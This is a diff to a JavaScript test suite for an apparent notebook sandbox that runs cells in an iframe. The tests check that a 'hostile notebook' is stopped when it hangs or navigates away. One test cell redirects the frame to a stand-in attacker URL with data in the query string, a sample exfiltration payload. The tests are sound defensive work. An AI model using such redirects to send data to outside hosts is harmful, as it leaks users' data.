@@ -189,7 +189,7 @@ describe('a hostile notebook', () => {
   it('is ended when it leads its frame elsewhere, and takes nothing along', async () => {
     await open([`location.href = "${evil}/?data=742"`])
     await until(({ end }) => end !== null)
-    expect((await seen()).end).toMatchObject({ reason: 'left' })
+    expect((await seen()).end).toEqual({ reason: 'left', cell: 1 })
     expect(stolen).toEqual([])
     expect(await page.locator('iframe').count()).toBe(0)
   })
@@ -203,6 +203,14 @@ describe('a hostile notebook', () => {
     await until(({ end }) => end !== null)
     expect((await seen()).end).toEqual({ reason: 'silent', cell: 2 })
     expect(await page.locator('iframe').count()).toBe(0)
+  })
+
+  it('is stopped by the cell that hangs, also when others came after it', async () => {
+    await open(['await new Promise((done) => setTimeout(done, 300)); while (true) {}', '2', '3'], {
+      silent: 2000,
+    })
+    await until(({ end }) => end !== null)
+    expect((await seen()).end).toEqual({ reason: 'silent', cell: 1 })
   })
 
   it('runs in a process of its own', async () => {
